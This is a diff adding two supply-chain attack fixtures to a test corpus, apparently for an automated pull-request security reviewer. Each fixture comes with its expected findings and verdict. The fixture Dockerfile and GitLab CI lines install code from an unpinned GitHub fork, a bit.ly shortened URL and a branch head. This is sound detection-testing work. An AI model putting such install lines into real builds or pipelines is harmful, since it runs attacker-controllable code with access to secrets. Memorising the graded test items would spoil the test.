@@ -4433,4 +4433,44 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['shell-arguments-spliced'] },
   },
+  {
+    id: 'attack-dockerfile-pip-install-git-fork',
+    description:
+      'Modeled on images built with `pip install git+` of a fork: a "fix the PDF export crash" PR adds `RUN pip install git+https://github.com/pdf-render-fixes/weasyprint` (a fork, its default branch, no commit) to the release image: whatever the fork\'s owner pushes next is built into the image, and no requirements file or lockfile shows it.',
+    fixture: () =>
+      attackPr({
+        repo: 'invoicer',
+        number: 11060,
+        title: 'Fix the PDF export crash on Alpine',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines(`FROM python:3.12-slim@sha256:${'a'.repeat(64)}`, 'WORKDIR /app', 'COPY requirements.txt .', 'RUN pip install --no-cache-dir -r requirements.txt', 'COPY . .', 'CMD ["gunicorn", "invoicer.wsgi"]'),
+            head: lines(`FROM python:3.12-slim@sha256:${'a'.repeat(64)}`, 'WORKDIR /app', 'COPY requirements.txt .', 'RUN pip install --no-cache-dir -r requirements.txt \\', '    && pip install --no-cache-dir git+https://github.com/pdf-render-fixes/weasyprint', 'COPY . .', 'CMD ["gunicorn", "invoicer.wsgi"]'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['remote-package-install'] },
+  },
+  {
+    id: 'attack-ci-script-npm-global-from-shortener',
+    description:
+      'Modeled on packages installed from attacker-controlled URLs: a "speed up CI" PR makes the GitLab pipeline install its release helper with `npm install -g https://bit.ly/…` (a URL shortener in front of a tarball) and `go install …/changelog-gen@main`: what runs in CI with the pipeline\'s secrets is whatever the short link and the branch point at that day.',
+    fixture: () =>
+      attackPr({
+        repo: 'invoicer',
+        number: 11061,
+        title: 'ci: speed up the release job',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.gitlab-ci.yml',
+            base: lines('release:', '  image: node:22', '  script:', '    - npm ci', '    - npm run release'),
+            head: lines('release:', '  image: node:22', '  script:', '    - npm ci', '    - npm install -g https://bit.ly/4rel-helper', '    - go install github.com/changelog-tools/changelog-gen@main', '    - npm run release'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['remote-package-install', 'go-run-unpinned'] },
+  },
 ];
